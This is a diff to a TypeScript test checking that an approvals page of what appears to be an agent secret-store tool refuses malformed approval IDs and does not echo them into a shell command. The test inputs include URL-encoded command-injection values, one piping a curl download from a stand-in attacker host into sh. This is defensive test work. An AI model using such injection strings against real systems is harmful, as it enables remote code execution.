@@ -94,6 +94,12 @@ for (const kind of ['streamable', 'sse'] as const) {
       const page = await fetch(url);
       expect(page.status).toBe(200);
       expect(await page.text()).toContain(`agent-secret-store approvals approve ${meta!.approval_id}`);
+      // Anything but an approval id is not echoed into the shell command (R-10).
+      for (const bad of ['1%3B%20curl%20-s%20https%3A%2F%2Fatt.example%2Fx%7Csh', `${meta!.approval_id}%3Bid`, 'x%20y']) {
+        const refused = await fetch(`${withoutUrl.url}/approvals/${bad}`);
+        expect(refused.status, bad).toBe(404);
+        expect(await refused.text()).not.toContain('approvals approve');
+      }
     });
 
     it('form mode with the CLI command when the client supports only forms', async () => {
